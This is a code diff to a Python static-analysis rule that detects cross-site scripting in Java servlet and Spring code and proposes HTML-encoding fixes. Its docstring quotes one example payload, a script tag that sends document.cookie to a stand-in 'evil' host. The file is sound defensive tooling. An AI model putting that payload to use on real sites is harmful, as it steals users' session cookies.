@@ -6,8 +6,16 @@ Flags request data (``request.getParameter``, ``@RequestParam`` ...) that reache
 kind ``xss`` in ``data/models/java.toml``), followed through the method and same-file helpers by
 the dataflow core. HTML encoders make the value safe - OWASP Java Encoder ``Encode.forHtml``,
 ESAPI ``encodeForHTML``, Spring ``HtmlUtils.htmlEscape``, commons-text
-``StringEscapeUtils.escapeHtml4`` - and so do a number parse or an allow-list check; escaping
-for another kind (SQL, a file name) or Base64 does not.
+``StringEscapeUtils.escapeHtml4``, unbescape, Tomcat's ``HTMLFilter.filter`` - and so do a number
+parse or an allow-list check; escaping for another kind (SQL, a file name) or Base64 does not.
+``char[]`` and ``Object`` arguments (``print(value.toCharArray())``, ``printf``'s arguments) count.
+A method that sets a constant content type browsers do not render as HTML
+(``setContentType("application/json")``, ``text/plain``) is not reported.
+
+A Spring handler's return value is the response body when the method is ``@ResponseBody`` or
+its class ``@RestController``: a ``String`` handler returning request data is reported (Spring
+sends it as ``text/html`` to a browser that asks for HTML), unless its mapping ``produces``
+JSON, plain text or another non-HTML type. A plain ``@Controller`` returning a view name is not.
 
 ## Why is this bad?
 The browser runs whatever the response contains: a name like ``<script>fetch('//evil/'+document.cookie)</script>``
@@ -22,6 +30,10 @@ response.getWriter().println("<p>Hello " + request.getParameter("name") + "</p>"
 ```java
 response.getWriter().println("<p>Hello " + Encode.forHtml(request.getParameter("name")) + "</p>");
 ```
+The quick fix wraps each part of the written text that is request data as it came (a
+parameter, a header, a variable holding one) in the HTML encoder of a library the file already
+imports - OWASP Encoder ``Encode.forHtml``, Spring ``HtmlUtils.htmlEscape``, commons-text
+``StringEscapeUtils.escapeHtml4`` - and offers none when a part may hold markup of its own.
 Better still, render through a template engine that escapes by default (Thymeleaf, JSP with
 ``<c:out>``).
 
@@ -33,9 +45,57 @@ Better still, render through a template engine that escapes by default (Thymelea
 
 from __future__ import annotations
 
-from landguard.checks.java._support import JavaTaintCheck
-from landguard.engine.findings import Confidence, Severity
-from landguard.engine.registry import Rule
+import re
+from collections.abc import Iterable
+from typing import TYPE_CHECKING
+
+from tree_sitter import Node
+
+from landguard.checks.java._support import (
+    JavaTaintCheck,
+    body_classes,
+    hit_confidence,
+    hit_words,
+    method_scope,
+    module_facts,
+    occurs_in,
+    route_facts,
+    tainted_sinks,
+)
+from landguard.dataflow import (
+    ir,
+)
+from landguard.dataflow.interpret import (
+    FunctionFacts,
+    SinkHit,
+)
+from landguard.dataflow.shapes import (
+    walk,
+)
+from landguard.dataflow.values import (
+    REQUEST,
+)
+from landguard.engine.findings import (
+    Confidence,
+    Finding,
+    Fix,
+    Severity,
+    TextEdit,
+)
+from landguard.engine.registry import (
+    CheckContext,
+    Rule,
+)
+from landguard.languages.java_syntax import (
+    call_args,
+    call_name,
+    concat_leaves,
+    import_edit,
+    node_text,
+)
+
+if TYPE_CHECKING:
+    from landguard.engine.document import Document
 
 RULE = Rule(
     id="LG413",
@@ -54,8 +114,182 @@ class CrossSiteScriptingCheck(JavaTaintCheck):
     rule = RULE
     kind = "xss"
     request_only = True
+    fixes_add_imports = True
     message = "Unescaped {what} is written into the response{where} by {method}(); encode it for HTML (Encode.forHtml)"
-    needles = (b"print", b"write", b"format", b"append", b"Writer")
+    needles = (b"print", b"write", b"format", b"append", b"Writer", b"return")
+
+    def module_context_key(self, document: Document, context: CheckContext) -> object:
+        # Whether a handler's return value is the response body depends on its class's annotations.
+        return (super().module_context_key(document, context), body_classes(document, context))
+
+    def check_unit(self, unit: Node, document: Document, context: CheckContext) -> Iterable[Finding]:
+        if occurs_in(document.source, unit, (b"print", b"write", b"format", b"append", b"Writer")):
+            for facts, hit, _whole in tainted_sinks(unit, document, context, self.kind, request_only=True):
+                node = hit.call.node
+                if node is None or not self.reports(facts, hit):
+                    continue
+                method = hit.inner.method if hit.inner is not None else hit.call.method
+                where = f" in {hit.via_helper}()" if hit.via_helper else ""
+                yield RULE.finding(
+                    document.node_span(node),
+                    self.message.format(what=hit_words(hit), method=method, where=where),
+                    confidence=hit_confidence(hit),
+                    fixes=self.fixes(facts, hit, unit, document, context),
+                )
+        classes = body_classes(document, context)
+        if not occurs_in(document.source, unit, (b"return",)) or not (
+            classes or occurs_in(document.source, unit, (b"ResponseBody",))
+        ):
+            return
+        for function, facts in route_facts(unit, document, context):
+            if not _returns_body(document, function, classes):
+                continue
+            for statement in walk(function.body):
+                if not isinstance(statement, ir.Return) or statement.value is None:
+                    continue
+                node = getattr(statement.value, "node", None)
+                value = facts.values.get(node) if node is not None else None
+                if value is None or not any(
+                    label.strength == REQUEST for label in value.labels_for(self.kind)
+                ):
+                    continue
+                yield RULE.finding(
+                    document.node_span(node),
+                    "Unescaped request data is returned as the response body; encode it for HTML "
+                    "(HtmlUtils.htmlEscape) or produce JSON",
+                )
+
+    def reports(self, facts: FunctionFacts, hit: SinkHit) -> bool:
+        return hit.via_helper is not None or not _not_html(facts)
+
+    def fixes(
+        self, facts: FunctionFacts, hit: SinkHit, unit: Node, document: Document, context: CheckContext
+    ) -> list:
+        """Encode each part of the written text that carries request data, with the HTML encoder
+        of a library the file already uses (OWASP Encoder, Spring, commons-text); none otherwise."""
+        node = hit.call.node
+        if hit.via_helper is not None or node is None or node.type != "method_invocation":
+            return []
+        module = module_facts(document, context)
+        encoder = next(
+            (
+                (call, qualified)
+                for prefix, call, qualified in _ENCODERS
+                if any(name.startswith(prefix) for name in module.imports)
+            ),
+            None,
+        )
+        if encoder is None:
+            return []
+        call, qualified = encoder
+        scope = method_scope(unit, document, context)
+        edits = []
+        for argument in call_args(node):
+            for leaf in concat_leaves(document, argument):
+                value = facts.values.get(leaf)
+                if value is None or not any(
+                    label.strength == REQUEST for label in value.labels_for(self.kind)
+                ):
+                    continue
+                if not _plain_text(document, scope, leaf):
+                    return []  # it may hold markup of its own (a helper's HTML): encoding it changes the page
+                text = node_text(document, leaf)
+                if not _is_string(document, scope, leaf):
+                    text = f"String.valueOf({text})"
+                edits.append(TextEdit(document.node_span(leaf), f"{call}({text})"))
+        if not edits:
+            return []
+        extra = import_edit(document, module, qualified)
+        return [Fix(f"Encode it with {call}()", (*edits, *([extra] if extra else [])), preferred=True)]
+
+
+def _not_html(facts: FunctionFacts) -> bool:
+    """The method sets a constant content type that browsers do not render as HTML (JSON, text)."""
+    types = []
+    for fact in facts.calls:
+        if fact.call.method == "setContentType":
+            value = fact.argument(0)
+        elif fact.call.method in ("setHeader", "addHeader"):
+            name = fact.argument(0)
+            if name is None or not (isinstance(name.const, str) and name.const.lower() == "content-type"):
+                continue
+            value = fact.argument(1)
+        else:
+            continue
+        if value is None or not isinstance(value.const, str):
+            return False
+        types.append(value.const.lower())
+    return bool(types) and not any(_HTML_TYPES.search(content_type) for content_type in types)
+
+
+# (an import prefix showing the library is used, the encoder call, the class to import)
+_ENCODERS = (
+    ("org.owasp.encoder", "Encode.forHtml", "org.owasp.encoder.Encode"),
+    ("org.springframework", "HtmlUtils.htmlEscape", "org.springframework.web.util.HtmlUtils"),
+    ("org.apache.commons.text", "StringEscapeUtils.escapeHtml4", "org.apache.commons.text.StringEscapeUtils"),
+)
+# Request accessors that return a String (their result can be encoded as it is).
+_STRING_SOURCES = frozenset(
+    {
+        "getParameter",
+        "getHeader",
+        "getQueryString",
+        "getRequestURI",
+        "getPathInfo",
+        "getRemoteUser",
+        "getValue",
+        "getName",
+    }
+)
+
+
+_TEXT_METHODS = frozenset({"trim", "strip", "toLowerCase", "toUpperCase", "toCharArray", "toString"})
+
+
+def _plain_text(document: Document, scope, leaf: Node, depth: int = 0) -> bool:
+    """Whether the part is request text as it came (a parameter, a header, a variable holding
+    one), not something that may contain markup the page wants."""
+    if depth > 4:
+        return False
+    if leaf.type == "method_invocation":
+        name = call_name(document, leaf)
+        if name in _STRING_SOURCES:
+            return True
+        receiver = leaf.child_by_field_name("object")
+        return (
+            name in _TEXT_METHODS
+            and receiver is not None
+            and _plain_text(document, scope, receiver, depth + 1)
+        )
+    if leaf.type == "identifier":
+        values = scope.values.get(node_text(document, leaf), [])
+        return all(op == "=" and _plain_text(document, scope, value, depth + 1) for op, value in values)
+    return False
+
+
+def _is_string(document: Document, scope, leaf: Node) -> bool:
+    if leaf.type == "identifier":
+        return scope.type_of(node_text(document, leaf)) == "String"
+    if leaf.type == "method_invocation":
+        return call_name(document, leaf) in _STRING_SOURCES or call_name(document, leaf) == "toString"
+    return leaf.type == "string_literal"
+
+
+_HTML_TYPES = re.compile(r"html|xml|svg")
+_NOT_HTML_PRODUCES = re.compile(r"json|text/plain|TEXT_PLAIN|JSON|octet|OCTET|image|IMAGE|csv|CSV")
+
+
+def _returns_body(document: Document, function: ir.Function, classes: frozenset[str]) -> bool:
+    """A ``@ResponseBody`` (or ``@RestController``) handler returning ``String``: what it returns
+    is the body, which Spring sends as ``text/html`` to a browser that asks for it."""
+    node = function.node
+    if node is None or node_text(document, node.child_by_field_name("type")) != "String":
+        return False
+    annotations = function.extra.get("annotations", ())
+    if "ResponseBody" not in annotations and function.class_name not in classes:
+        return False
+    modifiers = next((child for child in node.children if child.type == "modifiers"), None)
+    return not (modifiers is not None and _NOT_HTML_PRODUCES.search(node_text(document, modifiers)))
 
 
 CHECK = CrossSiteScriptingCheck()
